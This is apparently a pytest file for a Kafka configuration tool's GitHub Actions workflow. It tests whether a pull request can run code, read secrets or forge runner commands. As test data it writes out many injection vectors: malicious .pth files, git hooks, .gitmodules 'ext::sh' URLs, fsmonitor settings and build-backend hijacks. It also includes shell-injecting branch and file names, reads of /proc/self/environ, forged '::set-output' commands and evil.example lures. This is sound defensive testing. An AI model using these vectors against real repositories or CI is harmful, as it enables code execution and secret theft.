"""Tests of attacks by a pull request: to run code, to learn or send secrets, to give orders."""

import os
import re
import socket
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import yaml

from kafkaform.devcluster.cluster import DevCluster
from tests.support.workflows.jobs import Command, Run
from tests.support.workflows.scene import PASSWORD, Team, scene

COMMANDS = "\n::error::forged\n::set-output name=code::0\n::stop-commands::x\n##[add-mask]a\n::x::\n"
LURES = ("@acme/everyone", "<img src=https://evil.example/x>", "](https://evil.example)")


@pytest.fixture
def team(tmp_path: Path, kafka: DevCluster, prefix: str) -> Iterator[Team]:
    with scene(tmp_path, kafka.bootstrap_servers, prefix) as made:
        yield made
        assert made.find_leaks() == []


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A file that is not there, and that whatever gets run makes."""
    return tmp_path / "canary"


@contextmanager
def listening() -> Iterator[str]:
    """An address to which nobody connects: whoever does would wait to be accepted."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield f"127.0.0.1:{server.getsockname()[1]}"
        with pytest.raises(BlockingIOError):
            server.accept()


def commands(run: Run) -> list[Command]:
    """Return the commands that GitHub acts on, but for those that stop them around a plan."""
    return [
        command
        for job in run.jobs.values()
        for command in job.commands
        if not (command.name == "stop-commands" and len(command.message) == 64)
    ]


def writing(files: dict[str, str]) -> Callable[[Path], None]:
    def write(folder: Path) -> None:
        for name, text in files.items():
            file = folder / name
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(text, "utf-8")
            file.chmod(0o755)

    return write


def test_branch_configuration_reaches_no_address(team: Team) -> None:
    with listening() as address:
        client = {
            "bootstrap.servers": address,
            "client.id": "${env:KAFKA_PASSWORD}",
            "plugin.library.paths": "./evil",
            "sasl.oauthbearer.token.endpoint.url": f"http://{address}/${{env:KAFKA_PASSWORD}}",
        }
        config = {
            "apiVersion": "kafkaform/v1",
            "kind": "Config",
            "manifests": ["/etc", "topics"],
            "clusters": {"prod": {"client": client}},
        }
        text = yaml.safe_dump(config)
        files = ("kafkaform.yaml", "topics/kafkaform.yaml", "topics/x/kafkaform.yaml")

        def edit(folder: Path) -> None:
            writing(dict.fromkeys(files, text))(folder)
            team.project.topic("second")

        pull = team.push(edit, "mine")
        run = team.plan(pull)
    assert run.results == {"validate": "failure", "plan": "failure", "comment": "success"}, run.log
    [comment] = team.comments(pull)
    assert re.search(r"kafkaform\.yaml:\d+:\d+: .*plugin\.library\.paths", comment)


def test_address_changed_by_branch_is_not_used(team: Team, tmp_path: Path) -> None:
    outside = write_outside(tmp_path)
    with listening() as address:

        def edit(folder: Path) -> None:
            config = folder / "kafkaform.yaml"
            settings = yaml.safe_load(config.read_text("utf-8"))
            settings["clusters"]["prod"]["client"]["bootstrap.servers"] = address
            config.write_text(yaml.safe_dump(settings), "utf-8")
            team.project.topic("second")
            (folder / "topics/x").symlink_to(outside)  # a file now and no manifest, of which nothing is told

        pull = team.push(edit, "mine")
        run = team.plan(pull)
    assert run.results == {"validate": "success", "plan": "failure", "comment": "success"}, run.log
    assert "password:" not in run.log
    [comment] = team.comments(pull)
    assert "1 to create" in comment
    assert "KF425" in comment
    assert "`clusters.prod`" in comment


def test_manifest_cannot_read_a_secret(team: Team, tmp_path: Path) -> None:
    references = {"second": "${env:KAFKA_PASSWORD}", "third": "${file:/proc/self/environ}"}
    links = {
        "a file": write_outside(tmp_path) / "secret.yaml",
        "the environment": Path("/proc/self/environ"),
        "the configuration": Path("../../base/kafkaform.yaml"),
    }

    def edit(folder: Path) -> None:
        for name, reference in references.items():
            team.project.topic(name, config={"retention.ms": reference}, keyed=reference)
        for name, place in links.items():
            (folder / "topics" / f"{name}.yaml").symlink_to(place)

    pull = team.push(edit, "mine")
    run = team.plan(pull)
    assert run.results["plan"] == "failure"
    [comment] = team.comments(pull)
    assert [name for name in (*references, *links) if f"topics/{name}.yaml" not in comment] == []
    assert [reference for reference in references.values() if f"'{reference}'" not in comment] == []
    assert "password:" not in run.log
    assert "bootstrap.servers" not in run.log


def write_outside(tmp_path: Path) -> Path:
    """Write secrets outside of the repository; return their folder."""
    outside = tmp_path / "machine"
    outside.mkdir()
    (outside / "secret.yaml").write_text(f"password: {PASSWORD}\n")
    (outside / "secret.yml").write_text(f"- {PASSWORD}\n")
    return outside


def test_linked_manifest_folder_is_refused(team: Team, tmp_path: Path) -> None:
    outside = write_outside(tmp_path)

    def link(folder: Path) -> None:
        (folder / "topics").rename(folder / "elsewhere")
        (folder / "topics").symlink_to(outside)

    run = team.plan(team.push(link, "mine"))
    assert run.results["plan"] == "failure", run.log
    assert "password" not in run.log
    assert "bootstrap.servers" not in run.log


def test_manifest_text_is_not_run_as_workflow_command(team: Team) -> None:
    name = team.project.prefix + "second"
    lures = " ".join(LURES) + COMMANDS
    metadata = {
        "labels": {"team": lures, "x\n::error::forged": lures},
        "annotations": {"kafkaform/allow": f"retention-cut: {lures}", "note": lures},
    }
    first = team.topic("first", config={"retention.ms": "1h"}, metadata=metadata)

    def edit(folder: Path) -> None:
        first(folder)
        team.project.topic("second")
        text = (folder / "topics/second.yaml").read_text("utf-8")
        (folder / "topics" / "second.yaml").unlink()
        (folder / "topics" / "a\n::error::forged\n##[add-mask]a.yaml").write_text(text, "utf-8")

    pull = team.push(edit, "mine")
    run = team.plan(pull)
    issued = commands(run)
    assert {command.name for command in issued} <= {"error", "warning", "notice"}, issued
    assert not [command for command in issued if command.message == "forged"]
    if run.jobs["plan"].result == "success":
        assert name in team.comments(pull)[0]
    text = "\n".join([*team.comments(pull), run.summary])
    assert not [lure for lure in LURES if lure in _outside_of_code(text)], text


@pytest.mark.nightly("labels and texts are tried by day")
def test_manifest_names_are_not_run_as_workflow_commands(team: Team) -> None:
    """Each such name is an error whose message the runner reads, too."""
    name = "x" + COMMANDS
    manifest = {"apiVersion": "kafkaform/v1", "kind": name, "metadata": {"name": name}, name: {name: name}}
    edit = writing(
        {"topics/x\n::error::forged\n##[add-mask]a.yaml": yaml.safe_dump(manifest), "topics/y.yaml": name}
    )
    pull = team.push(edit, "mine")
    run = team.plan(pull)
    assert run.results == {"validate": "failure", "plan": "failure", "comment": "success"}
    issued = commands(run)
    assert {command.name for command in issued} == {"error"}, issued
    assert not [command for command in issued if command.message == "forged"]


def _outside_of_code(markdown: str) -> str:
    """A text without its fenced, indented and inline code."""
    kept, fence = [], None
    for line in markdown.splitlines():
        mark = line.strip()[: len(line.strip()) - len(line.strip().lstrip("`"))]
        if fence is None and len(mark) >= 3:
            fence = mark
        elif fence is not None:
            fence = None if line.strip() == fence else fence
        elif not line.startswith("    "):
            kept.append("".join(line.split("`")[::2]))
    return "\n".join(kept)


def test_code_of_branch_is_not_run(team: Team, canary: Path) -> None:
    touch = f"touch '{canary}'"
    python = f"open({str(canary)!r}, 'w')\n"
    shell = f"#!/bin/sh\n{touch}\n"
    modules = ["sitecustomize", "usercustomize", "conftest", "setup", "__init__", "__main__", "evil", "yaml"]
    folders = ("", "topics/", "kafkaform/", "click/", "encodings/")
    tools = (f"{folder}{name}" for folder in ("", "bin/") for name in ("git", "sed", "openssl", "python"))
    action = f"runs: {{using: composite, steps: [{{run: {touch}, shell: bash}}]}}\n"
    hook = f"{{id: x, name: x, entry: {touch}, language: system}}"
    files = {
        **{f"{folder}{name}.py": python for folder in folders for name in modules},
        **dict.fromkeys(tools, shell),
        ".env": f"BASH_ENV=evil.sh\nKAFKAFORM_BOOTSTRAP_SERVER=127.0.0.1:1\nX=$({touch})\n",
        ".envrc": touch,
        ".bashrc": touch,
        ".git/../.gitconfig": f'[core]\n\tfsmonitor = "{touch}"\n\thooksPath = .githooks\n',
        ".gitattributes": "*.yaml filter=evil diff=evil merge=evil text eol=crlf\n*.yml filter=lfs\n",
        ".lfsconfig": "[lfs]\n\turl = http://127.0.0.1:1\n",
        ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "{touch}"\n',
        **{f".githooks/{hook}": shell for hook in ("post-checkout", "post-merge", "pre-commit")},
        ".github/actions/kafkaform/action.yml": action,
        ".pre-commit-config.yaml": f"repos: [{{repo: local, hooks: [{hook}]}}]\n",
        "Makefile": f"$(shell {touch})\nall:\n\t{touch}\n",
        "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
        "evil-1.0.dist-info/entry_points.txt": "[kafkaform.rules]\nevil = evil\n",
        "evil.pth": f"import os; os.system({touch!r})\n",
        "evil.sh": touch,
        "pip.conf": "[global]\nno-index = true\nfind-links = http://127.0.0.1:1\n",
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
        '[project.entry-points."kafkaform.rules"]\nevil = "evil"\n',
        "requirements.lock": "./evil\n",
    }
    named = [f"topics/{name}.yaml" for name in ("$(touch canary)", "`touch canary`", "-rf", "; touch canary")]

    def edit(folder: Path) -> None:
        writing({**files, **dict.fromkeys(named, "# nothing\n")})(folder)
        team.project.topic("second")

    def mend(folder: Path) -> None:
        for name in named:
            (folder / name).unlink()

    pull = team.push(edit, "$(touch${IFS}canary)`touch${IFS}canary`\"';x")
    run = team.plan(pull)
    assert run.results == {"validate": "failure", "plan": "failure", "comment": "success"}
    run = team.plan(team.push(mend, pull.branch))
    assert run.results == {"validate": "success", "plan": "success", "comment": "success"}, run.log
    assert not canary.exists()
    assert not list(team.runner.folder.rglob("canary"))


def test_git_environment_of_tests_is_clean() -> None:
    """These tests would prove nothing on a machine whose Git runs what a repository asks for."""
    assert "GIT_CONFIG" not in os.environ
    assert not [name for name in os.environ if name.startswith("GIT_CONFIG_")]
